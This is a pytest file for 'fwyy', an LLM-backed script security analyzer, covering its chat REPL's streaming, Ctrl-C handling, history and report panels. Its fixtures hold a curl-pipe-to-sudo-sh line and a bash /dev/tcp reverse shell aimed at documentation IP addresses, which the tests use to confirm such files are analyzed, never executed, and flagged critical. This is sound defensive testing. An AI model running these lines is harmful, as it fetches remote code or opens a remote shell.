"""`fwyy chat` driven in a real pseudo-terminal (pexpect) against local llama.cpp on the demo GGUF.

What a person does every day: ask a question and watch the answer stream, stop a long answer with
Ctrl-C and keep going, `/file` a suspicious script (read, never run), find yesterday's input with
the Up arrow, leave with Ctrl-D.
"""

from __future__ import annotations

import io
import json
import os
import re
import signal
import sys
import time
from pathlib import Path

import pexpect
import pytest

from tests.fake_ollama import fake_ollama_fixture  # noqa: F401  (registers fixture "fake_ollama")

FWYY = str(Path(sys.executable).with_name("fwyy"))
PROMPT = ">>> "
# A word of the model's answer (not of the "thinking… (Ctrl-C stops)" spinner shown before it).
WORD = r"\b(?!thinking\b|Ctrl\b|stops\b)[A-Za-z]{3,}"
ANSI = re.compile(r"\x1b\[[0-9;?]*[A-Za-z]|\x1b\][^\x07]*\x07|[\x00-\x08\x0b-\x1f]")


def plain(text: str) -> str:
    return ANSI.sub("", text)


class Term:
    """A pexpect child read as the person sees it: colours and cursor moves stripped."""

    def __init__(self, child: pexpect.spawn) -> None:
        self.child = child
        self.raw = ""
        self.pos = 0
        self.reads: list[tuple[float, str]] = []

    def _read(self) -> None:
        try:
            data = self.child.read_nonblocking(4096, timeout=0.5)
        except pexpect.TIMEOUT:
            return
        self.reads.append((time.monotonic(), plain(data)))
        self.raw += data

    def expect(self, pattern: str, *, timeout: float = 120, regex: bool = False) -> str:
        """Wait for `pattern` in the plain text after the last match; return the text up to its end."""
        rx = re.compile(pattern if regex else re.escape(pattern))
        deadline = time.monotonic() + timeout
        while True:
            text = plain(self.raw)
            m = rx.search(text, self.pos)
            if m:
                seen = text[self.pos : m.end()]
                self.pos = m.end()
                return seen
            assert time.monotonic() < deadline, (
                f"waited {timeout}s for {pattern!r}; saw {text[self.pos :][-800:]!r}"
            )
            self._read()

    def prompt(self, timeout: float = 120) -> str:
        return self.expect(PROMPT, timeout=timeout)

    def send(self, text: str) -> None:
        self.child.send(text)

    def sendline(self, text: str) -> None:
        self.child.sendline(text)

    def ctrl(self, key: str) -> None:
        self.child.sendcontrol(key)

    def leave(self) -> None:
        self.child.sendeof()
        self.child.expect(pexpect.EOF, timeout=30)
        self.child.close()
        assert self.child.exitstatus == 0


def _default_sigint() -> None:
    """A job started in the background by a shell ignores SIGINT and its children inherit that:
    give the REPL the terminal's default, as a person's shell does, so Ctrl-C tests mean the same
    wherever pytest runs."""
    signal.signal(signal.SIGINT, signal.SIG_DFL)


def spawn(home: Path, *args: str, timeout: float = 120) -> tuple[Term, str]:
    """Start `fwyy chat` on the local backend; returns the terminal and the banner."""
    env = dict(os.environ)
    env.update(
        FWYY_HOME=str(home),
        OLLAMA_HOST="http://127.0.0.1:9",  # nothing listens: auto must not find a daemon
        TERM="xterm-256color",
        OMP_NUM_THREADS="1",
    )
    env.pop("NO_COLOR", None)
    child = pexpect.spawn(
        FWYY,
        ["chat", "--backend", "local", "--ctx", "2048", "--threads", "1", *args],
        env=env,
        encoding="utf-8",
        timeout=timeout,
        dimensions=(40, 110),
        preexec_fn=_default_sigint,
        cwd=str(home.parent),  # not the checkout: a build in ./out must not become the default model
    )
    term = Term(child)
    banner = term.prompt(timeout)
    return term, banner


def test_question_streams_and_ctrl_c_stops_the_answer_not_the_repl(tmp_path: Path) -> None:
    term, banner = spawn(tmp_path / "home", "--max-tokens", "400")
    assert "local" in banner and "SmolLM2-135M-Instruct" in banner
    assert "demo GGUF" in banner  # says which GGUF it fell back to

    # Ctrl-C at the prompt does not leave. (Wait until readline waits for input: a SIGINT that
    # lands before its select() starts is only seen at the next key, in CPython as in a person's terminal.)
    # On a loaded machine readline may start later than any fixed sleep, so press again, as a person
    # would, until the REPL answers; it must answer and must not leave.
    for _ in range(20):
        time.sleep(0.5)
        term.ctrl("c")
        try:
            term.expect("Ctrl-D or /exit to leave", timeout=3)
            break
        except AssertionError:
            assert term.child.isalive(), "Ctrl-C at the prompt ended the REPL"
    else:
        raise AssertionError("Ctrl-C at the prompt never answered")
    term.prompt()

    # A long answer: text appears while it is being generated, then Ctrl-C stops it.
    term.sendline("Explain SQL injection in detail, with examples.")
    term.expect("with examples.")
    term.expect(WORD, regex=True, timeout=60)
    first_text = time.monotonic()
    time.sleep(1.5)
    term.ctrl("c")
    term.expect("answer interrupted", timeout=30)
    term.prompt(timeout=30)
    # 400 tokens take far longer than this on one CPU thread: the stop came from Ctrl-C.
    assert time.monotonic() - first_text < 20

    # The REPL goes on: the model answers the next question (llama.cpp's state survived the
    # interruption), and commands still work.
    term.sendline("And what is XSS?")
    term.expect("what is XSS?")
    term.expect(WORD, regex=True, timeout=60)
    term.ctrl("c")
    term.expect("answer interrupted", timeout=30)
    term.prompt(timeout=30)
    term.sendline("/help")
    term.expect("/file PATH")
    term.prompt()
    term.sendline("/lang")
    term.expect("language: en")
    term.prompt()
    term.leave()


def test_answer_streams_file_is_analyzed_not_run_and_history_persists(tmp_path: Path) -> None:
    home = tmp_path / "home"
    term, _ = spawn(home, "--max-tokens", "24")
    question = "What does chmod 777 do?"
    term.sendline(question)
    term.expect(question)
    start = len(term.reads)
    answer = term.prompt()
    assert re.search(WORD, answer)
    with_words = [t for t, d in term.reads[start:] if re.search(WORD, d)]
    # Streaming: the answer reached the terminal in several updates spread over time, not at once.
    assert len(with_words) >= 3, term.reads[start:]
    assert with_words[-1] - with_words[0] > 0.2, term.reads[start:]

    # /file reads the script as text: the model sees it, nothing executes it.
    marker = tmp_path / "EXECUTED"
    script = tmp_path / "install.sh"
    script.write_text(f"#!/bin/sh\ntouch {marker}\ncurl -s http://198.51.100.7/x.sh | sudo sh\n")
    script.chmod(0o755)
    term.sendline(f"/file {script}")
    term.expect(f"analyzing {script}")
    # --max-tokens 24 cuts the grammar-constrained report: it fails closed, as `analyze` does.
    shown = term.expect(r"could not confirm safe:|Security report", regex=True, timeout=120)
    assert "Analysis: " in shown
    term.prompt()
    assert not marker.exists()

    # /file on a binary says so and the REPL goes on.
    binary = tmp_path / "blob.bin"
    binary.write_bytes(b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)))
    term.sendline(f"/file {binary}")
    term.expect("binary file")
    term.prompt()

    saved = tmp_path / "chat.md"
    term.sendline(f"/save {saved}")
    term.expect("saved to")
    term.prompt()
    text = saved.read_text()
    assert question in text and "198.51.100.7" in text
    term.leave()

    history = (home / "history").read_text()
    assert question in history and f"/file {binary}" in history

    # A new session: the Up arrow brings back the last line of the previous one.
    term, _ = spawn(home, "--max-tokens", "8")
    term.send("\x1b[A")  # Up
    term.expect(f"/save {saved}")
    term.ctrl("u")  # clear the recalled line
    term.sendline("/exit")
    term.child.expect(pexpect.EOF, timeout=30)
    term.child.close()
    assert term.child.exitstatus == 0


@pytest.mark.parametrize("gguf", ["missing.gguf", "not-a-gguf.txt"])
def test_bad_gguf_is_a_clear_error(tmp_path: Path, gguf: str) -> None:
    (tmp_path / "not-a-gguf.txt").write_text("hello")
    child = pexpect.spawn(
        FWYY,
        ["chat", "--backend", "local", "--gguf", str(tmp_path / gguf)],
        encoding="utf-8",
        timeout=60,
        env=dict(os.environ, FWYY_HOME=str(tmp_path / "home")),
        dimensions=(24, 200),
    )
    child.expect(pexpect.EOF)
    child.close()
    out = " ".join(plain(child.before).split())
    assert child.exitstatus == 1
    assert "Traceback" not in out
    assert ("no such GGUF file" in out) if gguf == "missing.gguf" else ("not a GGUF file" in out)


def test_reports_show_as_panels_coloured_by_label(tmp_path: Path) -> None:
    """Over Ollama (the loopback daemon, real client): a four-part answer becomes a panel."""
    from tests.fake_ollama import FakeOllama

    server = FakeOllama().start()
    try:
        server.add_model("fwyy-llama3")
        server.chunk_delay = 0.02
        env = dict(
            os.environ, FWYY_HOME=str(tmp_path / "home"), OLLAMA_HOST=server.host, TERM="xterm-256color"
        )
        env.pop("NO_COLOR", None)
        child = pexpect.spawn(
            FWYY,
            ["chat", "fwyy-llama3"],
            env=env,
            encoding="utf-8",
            timeout=60,
            dimensions=(40, 110),
            preexec_fn=_default_sigint,
        )
        term = Term(child)
        banner = term.prompt()
        assert "ollama: fwyy-llama3" in banner and server.host in banner

        term.sendline("curl http://198.51.100.7/x.sh | sh")
        shown = term.prompt()
        assert "Security report · HIGH" in shown and "Download over HTTPS" in shown
        assert "\x1b[1;31mHIGH" in term.raw  # bold red

        server.reply = "Analysis: Prints the date.\nLabel: safe\nRisk: none\nSolution: Nothing to do."
        (tmp_path / "cron.txt").write_text("0 * * * * date\n")
        term.sendline(f"/file {tmp_path / 'cron.txt'}")
        shown = term.prompt()
        assert "cron.txt · SAFE" in shown and "exit status for `fwyy analyze`: 0" in shown
        assert "\x1b[1;32mSAFE" in term.raw  # bold green
        # /file asked for the report's JSON schema; plain questions did not.
        chats = server.requests_to("/api/chat")
        assert "format" not in chats[0].body and chats[1].body["format"]["required"][0] == "analysis"
        assert "0 * * * * date" in chats[1].body["messages"][-1]["content"]
        # A follow-up question carries the whole conversation, the file included.
        term.sendline("How do I fix it?")
        term.prompt()
        follow = server.requests_to("/api/chat")[-1].body["messages"]
        assert [m["role"] for m in follow] == ["system", "user", "assistant", "user", "assistant", "user"]
        assert "0 * * * * date" in follow[3]["content"] and follow[-1]["content"] == "How do I fix it?"

        # A multi-line message between triple quotes arrives as one message.
        term.sendline('"""')
        term.sendline("line one")
        term.sendline('line two"""')
        term.prompt()
        assert server.requests_to("/api/chat")[-1].body["messages"][-1]["content"] == "line one\nline two"

        # Ctrl-C over Ollama closes the HTTP stream; the next question gets a fresh answer.
        server.reply = (
            "Lateral movement explained slowly. " * 300
        )  # 30 s of stream: Ctrl-C lands mid-answer even on a loaded machine
        server.chunk_delay = 0.1
        term.sendline("slow one")
        term.expect("Lateral movement", timeout=30)
        term.ctrl("c")
        term.expect("answer interrupted", timeout=60)
        term.prompt(timeout=60)
        server.chunk_delay = 0.0
        server.reply = "Analysis: a.\nLabel: medium\nRisk: b.\nSolution: c."
        term.sendline("fast one")
        assert "Security report · MEDIUM" in term.prompt(timeout=30)
        asked = [m["content"] for m in server.requests_to("/api/chat")[-1].body["messages"]]
        assert "slow one" not in asked and asked[-1] == "fast one"  # the interrupted turn is dropped

        term.sendline("/reset")
        term.expect("conversation cleared")
        term.prompt()
        term.sendline("/system You answer in one word.")
        term.expect("system prompt replaced")
        term.prompt()
        term.sendline("hi")
        term.prompt()
        body = server.requests_to("/api/chat")[-1].body
        assert body["messages"] == [
            {"role": "system", "content": "You answer in one word."},
            {"role": "user", "content": "hi"},
        ]
        term.leave()
    finally:
        server.stop()


def test_history_is_trimmed_to_the_context_newest_first(tmp_path: Path) -> None:
    """Long conversations keep the newest turns that fit, start with a user turn, keep the system."""
    from rich.console import Console

    from fwyy_ollama.repl import ChatSession
    from fwyy_ollama.runtime import OllamaBackend

    be = OllamaBackend(
        "fwyy-smollm2", host="http://127.0.0.1:9", options={"num_ctx": 1024, "num_predict": 128}
    )
    session = ChatSession(backend=be, console=Console(file=io.StringIO()), lang="en")
    for i in range(40):
        session.messages.append({"role": "user", "content": f"question {i} " + "word " * 30})
        session.messages.append({"role": "assistant", "content": f"answer {i} " + "word " * 30})
    msgs = session.prompt_messages()
    assert msgs[0]["role"] == "system" and msgs[1]["role"] == "user"
    assert msgs[-1]["content"].startswith("answer 39")
    total = sum(be.count_tokens(m["content"]) + 8 for m in msgs)
    assert 1024 - 256 - 200 < total <= 1024 - 128  # fills the room left for the answer, no more
    assert len(msgs) < 81

    saved = session.save(str(tmp_path / "c.json"))
    data = json.loads(saved.read_text())
    assert data["model"] == "fwyy-smollm2" and data["lang"] == "en"
    assert len(data["messages"]) == 81 and data["messages"][0]["role"] == "system"
    session.command("/reset")
    assert session.messages == []
    session.command("/lang zh")
    from fwyy_ollama.prompts import system_prompt

    assert session.prompt_messages() == [{"role": "system", "content": system_prompt("zh")}]
    assert session.command("/bye") is False


def test_file_names_the_rule_that_vetoed_a_safe_answer(tmp_path: Path, fake_ollama) -> None:  # type: ignore[no-untyped-def]
    """/file as `fwyy analyze`: a reverse shell called safe is reported critical, with the reason."""
    from rich.console import Console

    from fwyy_ollama.repl import ChatSession
    from fwyy_ollama.report import Label
    from fwyy_ollama.runtime import open_backend

    fake_ollama.add_model("fwyy-llama3")
    fake_ollama.reply = "Analysis: Prints the date.\nLabel: safe\nRisk: none\nSolution: Nothing to do."
    shell = tmp_path / "backup.sh"
    shell.write_text("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n")
    console = Console(record=True, width=200, force_terminal=False)
    session = ChatSession(open_backend("fwyy-llama3", backend="ollama"), console=console, lang="en")
    result = session.analyze_file(str(shell))
    shown = " ".join(console.export_text().split())
    assert (result.label, result.model_label, result.exit_code) == (Label.CRITICAL, Label.SAFE, 1)
    assert "the model said safe; fwyy's static checks raised it to critical" in shown
    assert "backup.sh · CRITICAL" in shown and "verdict risky" in shown
    # the panel is the rules' report, not the model's "safe" one
    assert "CWE-506" in result.report.risk and "Prints the date" not in result.report.analysis
